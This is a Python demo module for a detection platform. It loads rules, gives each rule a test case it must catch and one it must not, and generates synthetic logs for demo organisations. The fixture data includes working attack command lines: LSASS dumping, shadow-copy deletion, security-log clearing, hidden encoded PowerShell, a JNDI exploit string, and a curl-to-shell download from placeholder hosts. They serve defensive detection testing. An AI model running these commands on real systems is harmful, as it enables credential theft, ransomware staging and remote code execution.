"""What the demo government watches for: a few rules of its own, a signed pack, and what they found in logs.

The events are made; everything after them is what the platform does: the engine finds, the body counts, and
only sightings leave it.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import orjson

from rempart.demo.plan import Place
from rempart.detection.commands.cases import add_case
from rempart.detection.commands.detections import Reported, record_detections
from rempart.detection.commands.importing import import_rules
from rempart.detection.commands.packs import make_pack
from rempart.detection.findings import Finding, moment_of
from rempart.detection.models import Level
from rempart.detection.pseudonyms import group_key, hour_of, part_key
from rempart.detection.queries import rules
from rempart.detection.scan import Engines, Settings
from rempart.engines.logs import Event
from rempart.kernel.actors import system
from rempart.kernel.time import now

RULES = Path(__file__).parent / "rules"
DAYS = 14
_DEMO = system("demo")
_FIRST = "op-001"  # the body of the demo's officer
_SYSMON = {
    "Channel": "Microsoft-Windows-Sysmon/Operational",
    "EventID": 1,
    "ParentImage": r"C:\Windows\explorer.exe",
}
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
# Rule → (an event that it must find, one that it must not), without the machine, the person and the time.
EVENTS: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "encoded_powershell": (
        {**_SYSMON, "Image": _POWERSHELL, "CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgAIAA="},
        {**_SYSMON, "Image": _POWERSHELL, "CommandLine": "powershell.exe -File inventaire.ps1"},
    ),
    "shadow_copies_deleted": (
        {
            **_SYSMON,
            "Image": r"C:\Windows\System32\vssadmin.exe",
            "CommandLine": "vssadmin.exe delete shadows /all /quiet",
        },
        {**_SYSMON, "Image": r"C:\Windows\System32\vssadmin.exe", "CommandLine": "vssadmin.exe list shadows"},
    ),
    "lsass_dumped": (
        {
            **_SYSMON,
            "Image": r"C:\Windows\System32\rundll32.exe",
            "CommandLine": r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full",
        },
        {
            **_SYSMON,
            "Image": r"C:\Windows\System32\rundll32.exe",
            "CommandLine": "rundll32.exe shell32.dll,Control_RunDLL",
        },
    ),
    "log_cleared": (
        {
            **_SYSMON,
            "Image": r"C:\Windows\System32\wevtutil.exe",
            "CommandLine": "wevtutil.exe cl Security",
        },
        {**_SYSMON, "Image": r"C:\Windows\System32\wevtutil.exe", "CommandLine": "wevtutil.exe el"},
    ),
    "jndi_lookup": (
        {
            "_logsource": {"category": "webserver"},
            "cs-method": "GET",
            "cs-uri-query": "q=${jndi:ldap://198.51.100.7/a}",
            "cs-user-agent": "Mozilla/5.0",
        },
        {"_logsource": {"category": "webserver"}, "cs-uri-query": "q=permis", "cs-user-agent": "Mozilla/5.0"},
    ),
    "download_to_shell": (
        {
            "_logsource": {"product": "linux", "category": "process_creation"},
            "Image": "/usr/bin/bash",
            "CommandLine": "bash -c curl -s http://203.0.113.9/i.sh | sh",
        },
        {
            "_logsource": {"product": "linux", "category": "process_creation"},
            "Image": "/usr/bin/curl",
            "CommandLine": "curl -O https://exemple.test/paquet.tar.gz",
        },
    ),
}
_PEOPLE = ("m.tremblay", "s.gagnon", "a.nguyen", "svc-sauvegarde", "j.roy", "svc-web")


@dataclass(frozen=True)
class Watched:
    """How many rules are in force, and how many detections the bodies have."""

    rules: int
    detections: int


def watch(tree: list[Place], ids: dict[str, int], seed: int) -> Watched:
    """Puts the rules in force with their cases, signs a pack, and records what some bodies find."""
    release = import_rules(_DEMO, RULES, source="demonstration", label="Démonstration")
    for one in rules(_DEMO).filter(current__release=release):
        must, must_not = EVENTS[Path(one.path).stem]
        add_case(_DEMO, rule_id=one.pk, name="Ce qu’elle cherche", least=1, content=orjson.dumps([must]))
        add_case(_DEMO, rule_id=one.pk, name="Un usage ordinaire", least=0, content=orjson.dumps([must_not]))
    make_pack(_DEMO)
    engines = Engines(Settings(rules=(RULES,), all_fields=True))
    found = 0
    for place in tree:
        draw = random.Random(f"{seed}:{place.code}:watched")
        if place.kind == "body" and (draw.random() < 0.25 or place.code == _FIRST):
            reported = [_reported(one) for one in engines.scan(_events(place.code, draw))]
            found += record_detections(_DEMO, body_id=ids[place.code], reported=reported).new
    return Watched(engines.rule_count, found)


def _events(code: str, draw: random.Random) -> list[Event]:
    """A body's log: each event of one machine, person and moment of the last days."""
    made = []
    for number in range(draw.randint(2, 9)):
        must, must_not = EVENTS[draw.choice(sorted(EVENTS))]
        at = now() - timedelta(minutes=draw.randint(5, DAYS * 24 * 60))
        whom = {
            "Computer": f"{code}-p{draw.randint(1, 40):02}",
            "User": f"{code.upper()}\\{draw.choice(_PEOPLE)}",
            "UtcTime": at.isoformat(timespec="seconds"),
        }
        chosen = must if draw.random() < 0.8 else must_not
        made.append(Event("journaux.jsonl", number, {**chosen, **whom}, whom["UtcTime"]))
    return made


def _reported(finding: Finding) -> Reported:
    origin, at = finding.origin, moment_of(finding.timestamp)
    host, user = finding.host or "", finding.user or ""
    group = group_key(origin.id, origin.digest, host, user, hour_of(at))
    return Reported(
        key=part_key(group, finding.event, finding.timestamp), kind=origin.kind, rule_id=origin.id,
        rule_title=origin.title, rule_digest=origin.digest, level=Level[origin.level.upper()],
        count=finding.count, techniques=origin.techniques, first_at=at, last_at=at, host=host, user=user,
        source=finding.source, sample=finding.event,
        matched=[
            {"field": one.field, "value": str(one.value), "pattern": one.pattern, "search": one.search}
            for one in finding.matched
        ],
    )  # fmt: skip
